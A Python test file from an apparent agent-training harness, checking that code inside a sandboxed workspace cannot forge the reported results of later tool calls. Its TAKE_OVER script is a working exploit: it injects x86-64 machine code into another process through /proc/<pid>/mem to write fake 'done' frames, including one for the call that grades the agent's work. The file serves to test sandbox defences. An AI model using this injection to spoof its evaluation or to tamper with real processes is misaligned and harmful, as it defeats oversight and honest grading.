"""Results of a workspace's calls: what runs in it cannot report for another call."""

import json
import platform
import shlex

import pytest

from mega_agentrl.types.records import ToolStatus
from tests.escape.test_forged_messages import message_frame
from tests.sandbox.workspace.workspaces import output_of, shared_workspace_pool

# Lets a child of process 1 that waits for a named pipe write frames to each of its descriptors: its
# memory is changed where it goes on when the pipe opens.
TAKE_OVER = """
import os, pathlib, struct, time
FRAMES = {frames!r}
before = set(filter(str.isdigit, os.listdir('/proc')))
print()
while True:
    for pid in set(filter(str.isdigit, os.listdir('/proc'))) - before:
        try:
            call = pathlib.Path('/proc', pid, 'syscall').read_text().split()
        except OSError:
            continue
        if len(call) == 9 and call[0] == '257':  # openat
            break
    else:
        time.sleep(0.001)
        continue
    break
at = int(call[8], 16)
code = (
    b'\\x41\\xbc\\x03\\0\\0\\0'                      # for fd in range(3, 2048):
    b'\\xb8\\x01\\0\\0\\0\\x44\\x89\\xe7'              #     write(fd,
    b'\\x48\\x8d\\x35\\x1c\\0\\0\\0\\xba'              #         FRAMES,
    + struct.pack('<I', len(FRAMES))              #         len(FRAMES))
    + b'\\x0f\\x05\\x41\\xff\\xc4\\x41\\x81\\xfc\\0\\x08\\0\\0\\x7c\\xde'
    b'\\xb8\\xe7\\0\\0\\0\\x31\\xff\\x0f\\x05'          # exit_group(0)
)
with open(f'/proc/{{pid}}/mem', 'r+b', buffering=0) as memory:
    memory.seek(at)
    memory.write(code + FRAMES)
os.close(os.open('pipe', os.O_WRONLY))
"""


@pytest.fixture(scope="module")
def pool():
    yield from shared_workspace_pool()


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack is x86-64 machine code")
async def test_a_call_that_was_taken_over_cannot_report_the_end_of_the_next_one(pool):
    session = await pool.open()
    frames = b"".join(
        message_frame({"event": "done", "id": call, "code": 0})
        for call in (2, 3)  # the edit, and what rates the work
    )
    attack = TAKE_OVER.format(frames=frames)
    # The call ends when the attack waits for the next one.
    command = f"mkfifo pipe; exec 9< <(exec python3 -I -u -c {shlex.quote(attack)}); read -u 9"
    await output_of(session, command)
    view = await session.edit(json.dumps({"command": "view", "path": "pipe"}))
    assert (view.status, view.output) == (ToolStatus.ok, ""), (
        "the attack did not take the call over"
    )
    rated = await session.run_clean("exit 7", 60.0)
    assert rated.status is ToolStatus.user_error
    assert "[exit code 7]" in rated.output
    await session.close()
